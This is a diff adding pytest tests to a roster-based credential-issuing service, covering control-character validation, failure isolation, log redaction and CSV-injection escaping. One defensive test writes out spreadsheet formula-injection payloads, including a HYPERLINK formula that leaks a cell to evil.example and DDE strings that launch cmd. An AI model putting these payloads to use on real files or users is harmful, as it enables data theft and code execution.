@@ -5,6 +5,9 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import logging
+from collections.abc import Iterator
 from datetime import timedelta
 from typing import Any
 
@@ -12,6 +15,7 @@ import httpx
 import pytest
 
 from app.container import Container
+from app.observability.logs import configure_logging
 from app.services.batches import BatchService, row_key
 from app.services.issue_requests import RosterRow
 from app.services.principal import Principal
@@ -36,11 +40,48 @@ async def setup(
     return headers, (await achievement(client, headers))["id"]
 
 
-def work_all(container: Container, worker: str = "test-worker") -> int:
+def work_all(container: Container, worker: str = "test-worker", claim: int = 3) -> int:
     total = 0
-    while worked := container.batches.work_once(worker, 3):
+    while worked := container.batches.work_once(worker, claim):
         total += worked
     return total
+
+
+async def upload(
+    client: httpx.AsyncClient, headers: dict[str, str], achievement_id: str, roster: str
+) -> dict[str, Any]:
+    r = await client.post(
+        f"/api/v1/batches?achievement_id={achievement_id}",
+        content=roster.encode(),
+        headers={**headers, "Content-Type": "text/csv"},
+    )
+    assert r.status_code == 202, r.text
+    batch: dict[str, Any] = r.json()
+    return batch
+
+
+async def batch_status(
+    client: httpx.AsyncClient, headers: dict[str, str], batch_id: str
+) -> dict[str, Any]:
+    status: dict[str, Any] = (
+        await client.get(f"/api/v1/batches/{batch_id}", headers=headers)
+    ).json()
+    return status
+
+
+CLEAN = "given_name,family_name\n" + "".join(f"Learner{i},Family{i}\n" for i in range(10))
+
+
+@pytest.fixture
+def log_lines() -> Iterator[io.StringIO]:
+    """The service's log as JSON lines in a buffer; the root logger as it was afterwards."""
+    root = logging.getLogger()
+    handlers, level = list(root.handlers), root.level
+    buffer = io.StringIO()
+    configure_logging("INFO", "json", stream=buffer)
+    yield buffer
+    root.handlers[:] = handlers
+    root.setLevel(level)
 
 
 async def test_csv_roster_good_rows_issue_bad_rows_are_reported(
@@ -229,3 +270,160 @@ async def test_rows_that_keep_crashing_a_worker_are_given_up(
     ).json()
     assert status["state"] == "done" and status["failed"] == 1
     assert "gave up" in status["errors"][0]["reason"]
+
+
+async def test_control_characters_are_refused_at_upload_and_fail_no_other_batch(
+    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
+) -> None:
+    """The issue's triggers (a DID with U+001F, a NUL in a cell) are refused row by row when
+    the roster arrives; institution B's clean batch, worked in the same claims of 25 as a
+    worker does, issues every row."""
+    a_headers, a_course = await setup(client, admin_headers, slug="inst-a")
+    b_headers, b_course = await setup(client, admin_headers, slug="inst-b")
+    bad = (
+        "given_name,family_name,did,grade\n"
+        "Ana,Horvat,did:example:a\x1fb,\n"
+        "Nul\x00,Cell,,\n"
+        "Marko,Kovač,,good\x00\n"
+        "Ivana,Novak,,\n"
+    )
+    a_batch = await upload(client, a_headers, a_course, bad)
+    reasons = {e["row"]: e["reason"] for e in a_batch["errors"]}
+    assert set(reasons) == {2, 3, 4}
+    assert reasons[2].startswith("did: ") and "U+001F" in reasons[2]
+    assert reasons[3].startswith("given_name: ") and "U+0000" in reasons[3]
+    assert reasons[4].startswith("grade: ")
+    b_batch = await upload(client, b_headers, b_course, CLEAN)
+
+    work_all(container, claim=25)
+    a_status = await batch_status(client, a_headers, a_batch["id"])
+    b_status = await batch_status(client, b_headers, b_batch["id"])
+    assert (b_status["state"], b_status["issued"], b_status["failed"]) == ("done", 10, 0)
+    assert (a_status["state"], a_status["issued"], a_status["failed"]) == ("done", 1, 3)
+
+
+async def test_a_row_that_fails_in_issuance_fails_alone(
+    client: httpx.AsyncClient,
+    admin_headers: dict[str, str],
+    container: Container,
+    log_lines: io.StringIO,
+) -> None:
+    """A row that passes validation but makes issuance raise: a DID with U+FEFF (the DID
+    pattern and the text rules take it; JSON-LD's safe mode refuses it as an IRI). It fails
+    with a generic reason and is logged with its batch and row (not its data); the rest of
+    its batch and institution B's batch, claimed after it, issue."""
+    a_headers, a_course = await setup(client, admin_headers, slug="inst-a")
+    b_headers, b_course = await setup(client, admin_headers, slug="inst-b")
+    roster = "given_name,family_name,did\nAna,Horvat,did:example:a\ufeffb\nMarko,Kovač,\n"
+    a_batch = await upload(client, a_headers, a_course, roster)
+    assert a_batch["errors"] == []  # it passes validation
+    b_batch = await upload(client, b_headers, b_course, CLEAN)
+
+    work_all(container, claim=25)
+    a_status = await batch_status(client, a_headers, a_batch["id"])
+    b_status = await batch_status(client, b_headers, b_batch["id"])
+    assert (b_status["state"], b_status["issued"], b_status["failed"]) == ("done", 10, 0)
+    assert (a_status["state"], a_status["issued"], a_status["failed"]) == ("done", 1, 1)
+    [error] = a_status["errors"]
+    assert error["row"] == 2 and "internal error" in error["reason"]
+
+    lines = [json.loads(line) for line in log_lines.getvalue().splitlines() if line.strip()]
+    [failed] = [r for r in lines if r["message"] == "batch row failed"]
+    assert failed["batch_id"] == a_batch["id"] and failed["row"] == 2
+    assert failed["level"] == "ERROR" and failed["error"] == "JsonLdError"
+    assert "Traceback" in failed["exc_info"] and "message withheld" in failed["exc_info"]
+    log = log_lines.getvalue()
+    assert "example:a" not in log and "Horvat" not in log and "Ana" not in log
+
+
+async def test_a_stored_row_that_no_longer_validates_fails_alone(
+    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
+) -> None:
+    """A row stored before the text rules (or altered in the table): validated again when it
+    is worked, it fails with the reason; its neighbours and B's batch issue."""
+    a_headers, a_course = await setup(client, admin_headers, slug="inst-a")
+    b_headers, b_course = await setup(client, admin_headers, slug="inst-b")
+    a_batch = await upload(client, a_headers, a_course, "given_name,family_name\nA,B\nC,D\n")
+    b_batch = await upload(client, b_headers, b_course, CLEAN)
+    with container.uow() as uow:
+        row_ids = [
+            row.id
+            for row in uow.batches.claimable(container.clock(), 100)
+            if row.batch_id == a_batch["id"] and row.row_number == 2
+        ]
+        row = uow.batches.row(row_ids[0])
+        assert row is not None
+        row.data = {"given_name": "Ana\x00", "family_name": "Horvat", "did": "did:x:a\x1fb"}
+        uow.commit()
+
+    work_all(container, claim=25)
+    a_status = await batch_status(client, a_headers, a_batch["id"])
+    b_status = await batch_status(client, b_headers, b_batch["id"])
+    assert (b_status["issued"], b_status["failed"]) == (10, 0)
+    assert (a_status["issued"], a_status["failed"]) == (1, 1)
+    [error] = a_status["errors"]
+    assert error["row"] == 2
+    assert "given_name: " in error["reason"] and "did: " in error["reason"]
+
+
+async def test_a_claim_takes_the_rows_of_one_batch(
+    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
+) -> None:
+    a_headers, a_course = await setup(client, admin_headers, slug="inst-a")
+    b_headers, b_course = await setup(client, admin_headers, slug="inst-b")
+    a_batch = await upload(client, a_headers, a_course, "given_name,family_name\nA,B\nC,D\n")
+    b_batch = await upload(client, b_headers, b_course, CLEAN)
+    claims = []
+    while ids := container.batches.claim("w", 25):
+        with container.uow(read_only=True) as uow:
+            claims.append({row.batch_id for row in map(uow.batches.row, ids) if row})
+    assert claims == [{a_batch["id"]}, {b_batch["id"]}]
+
+
+async def test_results_csv_cells_never_begin_like_a_formula(
+    client: httpx.AsyncClient, admin_headers: dict[str, str], container: Container
+) -> None:
+    """OWASP's CSV injection: a roster whose rows' error reasons begin with = + - @ (an
+    NDJSON key is quoted in its reason); each such cell gets a leading single quote."""
+    headers, achievement_id = await setup(client, admin_headers)
+    names = {"given_name": "Ana", "family_name": "Horvat"}
+    lines = [
+        names,
+        {'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")': "x", **names},
+        {"+1+cmd|' /C calc'!A0": "x", **names},
+        {"-2+3": "x", **names},
+        {"@SUM(1+1)*cmd|' /C calc'!A0": "x", **names},
+    ]
+    r = await client.post(
+        f"/api/v1/batches?achievement_id={achievement_id}",
+        content="\n".join(json.dumps(line) for line in lines).encode(),
+        headers={**headers, "Content-Type": "application/x-ndjson"},
+    )
+    assert r.status_code == 202, r.text
+    work_all(container)
+    results = await client.get(f"/api/v1/batches/{r.json()['id']}/results", headers=headers)
+    assert results.status_code == 200
+    rows = list(csv.reader(io.StringIO(results.text)))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    errors = [row[4] for row in rows[1:]]
+    assert errors[0] == ""
+    assert errors[1].startswith("'=HYPERLINK(") and errors[2].startswith("'+1+cmd")
+    assert errors[3].startswith("'-2+3") and errors[4].startswith("'@SUM(")
+
+
+async def test_a_multipart_achievement_id_with_a_control_character_is_refused(
+    client: httpx.AsyncClient, admin_headers: dict[str, str]
+) -> None:
+    """The form field reaches the service past the query's check (and a NUL past it would
+    reach PostgreSQL)."""
+    headers, achievement_id = await setup(client, admin_headers)
+    r = await client.post(
+        "/api/v1/batches",
+        files={"file": ("class-3a.csv", ROSTER.encode(), "text/csv")},
+        data={"achievement_id": achievement_id + "\x00"},
+        headers=headers,
+    )
+    assert r.status_code == 422, r.text
+    [error] = r.json()["errors"]
+    assert error["field"] == "achievement_id" and "U+0000" in error["reason"]
